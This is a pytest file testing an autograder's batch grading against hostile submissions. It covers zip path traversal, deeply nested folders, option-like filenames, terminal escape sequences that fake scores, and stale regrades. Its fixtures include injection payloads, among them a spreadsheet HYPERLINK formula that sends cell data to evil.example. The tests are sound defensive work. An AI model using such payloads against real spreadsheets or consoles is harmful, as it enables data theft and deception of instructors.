"""`dlgrade batch` against hostile input and stale state: student-chosen names and text never
act on the instructor's console, spreadsheet or command lines, a pathological folder costs only
its own submission, and a re-run regrades whatever changed besides the notebook.

Submissions are the corpus target's master (8 points) or variants of it (tests/corpus).
"""
from __future__ import annotations

import io
import json
import os
import re
import shutil
import stat
import zipfile
from pathlib import Path

import pytest
from rich.console import Console

import autograder.graders as graders
import autograder.student_state as student_state
import autograder.grade
from autograder.assignment import load_assignment
from autograder.batch import run_batch
from autograder.graders import one_command
from autograder.cli import main as dlgrade
from autograder.gradescope import MAX_DEPTH, SubmissionError, find_notebook
from autograder import results as results_module
from autograder.results import Results, error_results
from autograder.student_state import _write_json, assignment_fingerprint, previous_grade
from autograder.submissions import MAX_EXTRACT_DEPTH, Submission, remove_tree
from autograder.textsafe import csv_cell, escape_control
from corpus.harness import assignment_variant
from corpus.notebooks import FULL_MARKS, TINY, master_notebook, variant, write

HEADER = ("submission,name,email,sid,notebook,affine_forward: output values,"
          "relu_forward: output values,softmax_loss: loss and dx,total,max_score,status")
# Raw control characters, except the newline and tab that every file may hold.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
RELU_WRONG = "def relu_forward(x):\n    return np.zeros_like(x), x"


def csv_lines(out: Path, name: str = "grades.csv") -> list[str]:
    return (out / name).read_bytes().decode().split("\r\n")


def recording_console() -> Console:
    return Console(file=io.StringIO(), width=5000, color_system=None)


def status_of(out: Path, sub: str) -> dict:
    return json.loads((out / "students" / sub / "status.json").read_text())


def results_of(out: Path, sub: str) -> dict:
    text = (out / "students" / sub / "results.json").read_text()
    Results.model_validate_json(text)
    return json.loads(text)


@pytest.fixture
def engine_snapshot(tmp_path, monkeypatch) -> Path:
    """The grader's source as it is now, as the engine part of the fingerprint: edits made to
    the working tree while a test runs must not read as an engine change."""
    copy = tmp_path / "engine"
    shutil.copytree(student_state.ENGINE_DIR, copy, ignore=shutil.ignore_patterns("__pycache__"))
    monkeypatch.setattr(student_state, "ENGINE_DIR", copy)
    return copy


# ---- text made safe ------------------------------------------------------------------------

def test_escape_control_writes_control_characters_out():
    text = "a\x1b[2Jb\rc\x07\x00\x7f\x9b\u202e\tkeep\nline"
    assert escape_control(text) == "a\\x1b[2Jb\\x0dc\\x07\\x00\\x7f\\x9b\\u202e\tkeep\nline"
    assert escape_control("tab\there\nnext", single_line=True) == "tab\\x09here\\x0anext"
    typed = "Grüße, 日本, \\x1b stays as typed"
    assert escape_control(typed) == typed


def test_csv_cell_neutralises_formulas_only():
    assert [csv_cell(c) for c in ["=1+1", "+1-2", "-h", "@SUM(A1)", "\tx", "\rx"]] == \
        ["'=1+1", "'+1-2", "'-h", "'@SUM(A1)", "'\tx", "'\rx"]
    assert [csv_cell(c) for c in ["Ada", "-7", "+3.5", "a=b", ""]] == \
        ["Ada", "-7", "+3.5", "a=b", ""]


def test_results_escape_control_characters_whenever_set():
    test = results_module.TestResult(name="t\x1b", number="1", score=0, max_score=1,
                                     status="failed", output="\x1b[2JTotal: 8/8\r")
    assert (test.name, test.output) == ("t\\x1b", "\\x1b[2JTotal: 8/8\\x0d")
    results = error_results("boom\x9b", tests=[test])
    results.output = "later\x1b]0;title\x07"  # assignment is validated too
    text = results.model_dump_json()
    assert results.output == "later\\x1b]0;title\\x07" and "\\u001b" not in text


# ---- item 8a: rich markup in a refused entry's name -------------------------------------------

def test_refused_entry_named_with_markup_is_printed_as_written(tmp_path):
    archive = tmp_path / "export.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("good/hw.ipynb", json.dumps(batch_notebook()))
        zf.writestr("bad/../x[/]y[bold]z.txt", "x")
        zf.writestr("bad/../\x1b[2JTotal: 82/82.txt", "x")
    console = recording_console()
    out = tmp_path / "out"
    summary = run_batch(archive, str(TINY), out, progress=False, console=console)
    assert (summary.graded, summary.grader_errors) == (1, 0)
    printed = console.file.getvalue()
    assert "refused zip entry bad/../x[/]y[bold]z.txt: '..' in the path" in printed
    assert "refused zip entry bad/../\\x1b[2JTotal: 82/82.txt: '..' in the path" in printed
    assert "\x1b" not in printed
    assert csv_lines(out)[:3] == [HEADER, "good,,,,hw.ipynb,3,2,3,8,8,graded", ""]
    # The refused list survives a re-run (read back from refused.txt) and still prints.
    again = run_batch(archive, str(TINY), out, progress=False, console=recording_console())
    assert again.skipped == 1 and len(again.refused) == 2


def batch_notebook() -> dict:
    import nbformat

    return json.loads(nbformat.writes(master_notebook()))


# ---- item 8b: a folder nested too deep ---------------------------------------------------------

def nest(folder: Path, depth: int) -> Path:
    """``folder/a/a/...`` ``depth`` levels deep, made one level at a time (os.makedirs
    recurses)."""
    path = folder
    os.mkdir(path)
    for _ in range(depth):
        path = path / "a"
        os.mkdir(path)
    return path


@pytest.fixture
def deep_cleanup():
    """pytest removes old temporary folders with shutil.rmtree, which recurses: trees over a
    thousand levels deep must go before it meets them."""
    made: list[Path] = []
    yield made
    for path in made:
        if path.exists():
            remove_tree(path)


def test_find_notebook_searches_up_to_max_depth(tmp_path):
    (tmp_path / "fits").mkdir()
    at_limit = nest(tmp_path / "fits" / "ok", MAX_DEPTH - 1)  # MAX_DEPTH folders down
    write(master_notebook(), at_limit / "hw.ipynb")
    assert find_notebook(tmp_path / "fits") == at_limit / "hw.ipynb"
    (tmp_path / "over").mkdir()
    too_deep = nest(tmp_path / "over" / "deep", MAX_DEPTH)  # one more
    write(master_notebook(), too_deep / "hw.ipynb")
    with pytest.raises(SubmissionError, match="^Folder nested too deep: .* more than "
                       f"{MAX_DEPTH} levels down \\(deep/a/a/a/\\.\\.\\.\\)") as info:
        find_notebook(tmp_path / "over")
    assert info.value.kind == "folder nested too deep"


def test_folder_nested_1100_deep_costs_only_its_submission(tmp_path, deep_cleanup):
    subs = tmp_path / "subs"
    subs.mkdir()
    write(master_notebook(), subs / "good.ipynb")
    deep_cleanup.append(subs / "deep")
    write(master_notebook(), nest(subs / "deep", 1100) / "hw.ipynb")
    out = tmp_path / "out"
    summary = run_batch(subs, str(TINY), out, jobs=2, progress=False)
    assert (summary.total, summary.graded, summary.grader_errors) == (2, 2, 0)
    assert csv_lines(out)[:4] == [HEADER, "deep,,,,,0,0,0,0,8,folder nested too deep",
                                  "good,,,,good.ipynb,3,2,3,8,8,graded", ""]
    deep = results_of(out, "deep")
    assert deep["score"] == 0 and deep["tests"] == []
    assert deep["output"].startswith(f"Folder nested too deep: your submission has folders "
                                     f"more than {MAX_DEPTH} levels down (a/a/a/a/...)")


def test_zip_nested_1100_deep_costs_only_its_submission(tmp_path):
    nb = json.dumps(batch_notebook())
    archive = tmp_path / "export.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("good/hw.ipynb", nb)
        zf.writestr("deep/" + "a/" * 1100 + "hw.ipynb", nb)
    out = tmp_path / "out"
    summary = run_batch(archive, str(TINY), out, jobs=2, progress=False,
                        console=recording_console())
    assert (summary.graded, summary.grader_errors) == (2, 0)
    assert [r.rsplit(": ", 1)[1] for r in summary.refused] == [
        f"nested more than {MAX_EXTRACT_DEPTH} folders deep"]
    assert summary.refused[0].startswith("deep/a/a/") and "..." in summary.refused[0]
    assert csv_lines(out)[1:3] == ["deep,,,,,0,0,0,0,8,folder nested too deep",
                                   "good,,,,hw.ipynb,3,2,3,8,8,graded"]
    # A new zip is extracted again over the deep tree of the old one (rmtree recursed).
    with zipfile.ZipFile(archive, "a") as zf:
        zf.writestr("late/hw.ipynb", nb)
    again = run_batch(archive, str(TINY), out, jobs=2, progress=False,
                      console=recording_console())
    assert (again.total, again.skipped, again.graded) == (3, 2, 1)
    assert csv_lines(out)[3] == "late,,,,hw.ipynb,3,2,3,8,8,graded"


# ---- item 8c: names that look like options; the out folder's mode -----------------------------

def test_names_starting_with_a_dash_are_graded(tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    write(master_notebook(), subs / "-h.ipynb")
    (subs / "--out").mkdir()
    write(variant(relu_forward=RELU_WRONG), subs / "--out" / "--version.ipynb")
    out = tmp_path / "out"
    out.mkdir(mode=0o755)
    os.chmod(out, 0o755)  # as an earlier version left it: other uids could read every grade
    summary = run_batch(subs, str(TINY), out, jobs=2, progress=False)
    assert (summary.graded, summary.grader_errors) == (2, 0)
    assert csv_lines(out) == [HEADER, "'--out,,,,'--version.ipynb,3,0,3,6,8,graded",
                              "'-h,,,,'-h.ipynb,3,2,3,8,8,graded", ""]
    assert stat.S_IMODE(os.stat(out).st_mode) == 0o700
    page = (out / "students" / "--out" / "feedback.html").read_text()
    assert "<p class='note'>--out/</p>" in page and "Score: 6 / 8" in page


def test_one_command_never_lets_argparse_read_a_value_as_an_option(tmp_path, monkeypatch):
    assignment = load_assignment(str(TINY))
    sub = Submission("-h", tmp_path / "--help" / "-h.ipynb", label="--help/")
    cmd = one_command(assignment, sub, tmp_path / "students" / "-h", device="cpu",
                      title="-x: feedback", subtitle="--help/ -Ada", limit=99.0,
                      confidential=[tmp_path / "-out"])
    seen = {}
    monkeypatch.setattr(graders, "grade_one", lambda args: seen.update(vars(args)) or 0)
    assert graders.main(cmd[cmd.index("one"):]) == 0
    assert (seen["notebook"], seen["subtitle"], seen["title"], seen["confidential"]) == \
        (str(tmp_path / "--help" / "-h.ipynb"), "--help/ -Ada", "-x: feedback",
         [str(tmp_path / "-out")])


# ---- item 8d: Gradescope metadata in grades.csv -----------------------------------------------

METADATA = """\
-submission:
  :submitters:
  - :name: '=HYPERLINK("http://evil.example/?"&A1,"click")'
    :sid: '@SUM(1+1)'
    :email: '+1-2@evil.example'
  - :name: '-2+3'
    :sid: '-7'
    :email: "\\tx@example.edu"
  - :name: Ada Lovelace
    :sid: '101'
    :email: ada@example.edu
"""


def test_metadata_never_becomes_a_spreadsheet_formula(tmp_path):
    export = tmp_path / "export"
    (export / "-submission").mkdir(parents=True)
    (export / "submission_metadata.yml").write_text(METADATA)
    write(master_notebook(), export / "-submission" / "-hw.ipynb")
    out = tmp_path / "out"
    summary = run_batch(export, str(TINY), out, progress=False)
    assert (summary.graded, summary.grader_errors) == (1, 0)
    assert csv_lines(out) == [
        HEADER,
        "'-submission,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","
        "'+1-2@evil.example,'@SUM(1+1),'-hw.ipynb,3,2,3,8,8,graded",
        "'-submission,'-2+3,\\x09x@example.edu,-7,'-hw.ipynb,3,2,3,8,8,graded",
        "'-submission,Ada Lovelace,ada@example.edu,101,'-hw.ipynb,3,2,3,8,8,graded",
        ""]


# ---- item 8e: control characters in student output --------------------------------------------

ESCAPING = variant(relu_forward=r'''def relu_forward(x):
    print("\x1b[2J\x1b[HTotal: 82/82\r")
    raise ValueError("\x1b[1;32mTotal: 82/82\x9b")''')


def test_control_characters_reach_no_console_and_no_file(tmp_path, capsys):
    path = write(ESCAPING, tmp_path / "esc.ipynb")
    results_path = tmp_path / "results" / "results.json"
    assert dlgrade(["grade", str(path), "-a", str(TINY), "--results", str(results_path)]) == 0
    shown = capsys.readouterr().out
    assert "\x1b" not in shown and "\r" not in shown and "\x9b" not in shown
    assert "\\x1b[2J\\x1b[HTotal: 82/82\\x0d" in shown  # the printed output, written out
    assert "\\x1b[1;32mTotal: 82/82\\x9b" in shown     # the relu test's first message line
    results = json.loads(results_path.read_text())
    assert results["score"] == FULL_MARKS - 2
    relu = next(t for t in results["tests"] if t["name"].startswith("relu_forward"))
    assert "ValueError: \\x1b[1;32mTotal: 82/82\\x9b" in relu["output"]
    assert not RAW_CONTROL.search(json.dumps(results, ensure_ascii=False))

    subs = tmp_path / "subs"
    subs.mkdir()
    shutil.copy(path, subs / "esc.ipynb")
    out = tmp_path / "out"
    summary = run_batch(subs, str(TINY), out, progress=False)
    assert (summary.graded, summary.grader_errors) == (1, 0)
    student = out / "students" / "esc"
    for name in ("results.json", "feedback.html", "status.json", "log.txt", "figures.json"):
        text = (student / name).read_text(encoding="utf-8")
        assert not RAW_CONTROL.search(text), name
    page = (student / "feedback.html").read_text()
    assert "\\x1b[2J\\x1b[HTotal: 82/82\\x0d" in page and "Score: 6 / 8" in page
    assert csv_lines(out)[1] == "esc,,,,esc.ipynb,3,0,3,6,8,graded"


# ---- operator notes --------------------------------------------------------------------------

def test_operator_notes_go_to_the_operator_only(tmp_path, capsys, monkeypatch):
    real = autograder.grade.grade_notebook

    def with_notes(*args, **kwargs):
        run = real(*args, **kwargs)
        run.operator_notes = ["sandbox: test mode \x1b[2J", "two\nlines"]
        return run

    monkeypatch.setattr(autograder.grade, "grade_notebook", with_notes)
    path = write(master_notebook(), tmp_path / "hw.ipynb")
    results_path = tmp_path / "results.json"
    assert dlgrade(["grade", str(path), "-a", str(TINY), "--results", str(results_path)]) == 0
    captured = capsys.readouterr()
    assert captured.err.splitlines()[:3] == ["operator: sandbox: test mode \\x1b[2J",
                                             "operator: two", "operator: lines"]
    assert "test mode" not in results_path.read_text() and "test mode" not in captured.out
    assert dlgrade(["grade", str(path), "-a", str(TINY), "--results", str(results_path),
                    "-q"]) == 0
    assert "operator:" not in capsys.readouterr().err

    # A batch: the grading process's own notes (whatever this engine writes) go to the
    # student's log and status.json, and not into their results.
    subs = tmp_path / "subs"
    subs.mkdir()
    shutil.copy(path, subs / "hw.ipynb")
    out = tmp_path / "out"
    run_batch(subs, str(TINY), out, progress=False)
    notes = status_of(out, "hw")["operator_notes"]
    log = (out / "students" / "hw" / "log.txt").read_text()
    assert isinstance(notes, list)
    assert [line[len("operator: "):] for line in log.splitlines()
            if line.startswith("operator: ")] == [x for n in notes for x in n.splitlines()]
    assert not (out / "students" / "hw" / "operator_notes.json").exists()


# ---- item 9: regrades ------------------------------------------------------------------------

def test_fingerprint_covers_everything_that_decides_a_grade(tmp_path, engine_snapshot):
    folder = assignment_variant(tmp_path)
    assignment = load_assignment(str(folder))
    seen = {assignment_fingerprint(assignment)}

    def changed_after(edit) -> bool:
        edit()
        fingerprint = assignment_fingerprint(load_assignment(str(folder)))
        new = fingerprint not in seen
        seen.add(fingerprint)
        return new

    def append(path: Path, text: str):
        return lambda: path.write_text(path.read_text() + text)

    cache = folder / "tests" / "__pycache__"
    assert not changed_after(lambda: (cache.mkdir(), (cache / "t.pyc").write_bytes(b"x")))
    assert changed_after(append(folder / "tests" / "test_tiny.py", "\n# reworded\n"))
    assert changed_after(lambda: (folder / "tests" / "expected.npz").write_bytes(b"data"))
    assert changed_after(append(folder / "assignment.toml", "\n# tweak\n"))
    assert changed_after(lambda: (folder / "mutants.py").write_text("MUTANTS = []\n"))
    assert changed_after(append(folder / "master.ipynb", "\n"))
    assert changed_after(append(engine_snapshot / "results.py", "\n# engine fix\n"))
    assert changed_after(lambda: (folder / "worker_objects.py").write_text("X = 1\n"))
    (folder / "data.csv").write_text("1,2\n")
    assert not changed_after(lambda: None)  # not declared: not read by the grading
    toml = folder / "assignment.toml"  # a top-level key goes before the tables
    assert changed_after(lambda: toml.write_text('files = ["data.csv"]\n' + toml.read_text()))
    assert changed_after(append(folder / "data.csv", "3,4\n"))  # a declared data file
    assert not changed_after(lambda: (folder / "notes.txt").write_text("not graded"))


def test_rerun_regrades_what_changed_and_reports_changed_grades(tmp_path, capsys,
                                                                engine_snapshot):
    folder = assignment_variant(tmp_path)
    subs = tmp_path / "subs"
    subs.mkdir()
    write(master_notebook(), subs / "full.ipynb")
    write(variant(relu_forward=RELU_WRONG), subs / "half.ipynb")
    (subs / "empty").mkdir()
    out = tmp_path / "out"
    first = run_batch(subs, str(folder), out, jobs=2, progress=False)
    assert (first.graded, first.regraded, first.diff_csv) == (3, 0, None)
    assert first.changes_line() == ""
    assert status_of(out, "full")["assignment_fingerprint"] == \
        assignment_fingerprint(load_assignment(str(folder)))
    unchanged = run_batch(subs, str(folder), out, jobs=2, progress=False)
    assert (unchanged.skipped, unchanged.graded) == (3, 0)
    assert not (out / "grades-diff.csv").exists()

    # New points for the relu test: the hidden tests changed, the notebooks did not.
    tests = folder / "tests" / "test_tiny.py"
    tests.write_text(tests.read_text().replace("@pytest.mark.points(2)", "@pytest.mark.points(4)",
                                               1))
    regraded = run_batch(subs, str(folder), out, jobs=2, progress=False)
    assert (regraded.skipped, regraded.graded, regraded.regraded, regraded.changed) == \
        (0, 3, 3, 2)
    assert regraded.changes_line() == f"2 grades changed, see {out / 'grades-diff.csv'}"
    assert csv_lines(out, "grades-diff.csv") == [
        "submission,names,old_total,new_total,old_max,new_max,reason",
        "full,,8,10,8,10,assignment changed", "half,,6,6,8,10,assignment changed", ""]
    assert [line.split(",")[-3:] for line in csv_lines(out)[1:4]] == \
        [["0", "10", "no notebook"], ["10", "10", "graded"], ["6", "10", "graded"]]

    # A changed notebook: only that one, with its reason.
    write(master_notebook(), subs / "half.ipynb")
    fixed = run_batch(subs, str(folder), out, jobs=2, progress=False)
    assert (fixed.skipped, fixed.graded, fixed.changed) == (2, 1, 1)
    assert csv_lines(out, "grades-diff.csv")[1:] == ["half,,6,10,10,10,notebook changed", ""]

    # A changed engine regrades everyone; so does --regrade, whose run here changes nothing.
    (engine_snapshot / "grade.py").write_text((engine_snapshot / "grade.py").read_text() + "#\n")
    engine = run_batch(subs, str(folder), out, jobs=2, progress=False)
    assert (engine.skipped, engine.graded, engine.changed) == (0, 3, 0)
    capsys.readouterr()
    assert dlgrade(["batch", str(subs), "-a", str(folder), "--out", str(out), "-q",
                    "--regrade", "-j", "2"]) == 0
    printed = capsys.readouterr().err
    assert "3 submissions: 3 graded now, 0 already graded, 0 grader errors" in printed
    assert f"3 regraded, no grade changed (see {out / 'grades-diff.csv'})" in printed
    assert csv_lines(out, "grades-diff.csv") == [
        "submission,names,old_total,new_total,old_max,new_max,reason", ""]


def test_an_interrupted_regrade_keeps_the_old_grade(tmp_path):
    """Regrading removes status.json and overwrites results.json; previous.json, written first,
    is what a re-run after a kill compares with (and it loses to a finished grade)."""
    student = tmp_path / "students" / "s"
    student.mkdir(parents=True)
    assert previous_grade(student) is None
    _write_json(student / "previous.json", {"score": 6.0, "max_score": 8.0,
                                                   "sha256": "a", "reason": "forced"})
    assert previous_grade(student)["score"] == 6.0
    _write_json(student / "results.json", json.loads(error_results("x").model_dump_json()))
    _write_json(student / "status.json", {"state": "grader_error"})
    assert previous_grade(student)["score"] == 6.0  # a grader error is not a grade
    _write_json(student / "status.json", {"state": "done", "sha256": "b"})
    assert previous_grade(student) == {"score": 0.0, "max_score": 0.0, "sha256": "b",
                                       "assignment_fingerprint": None}

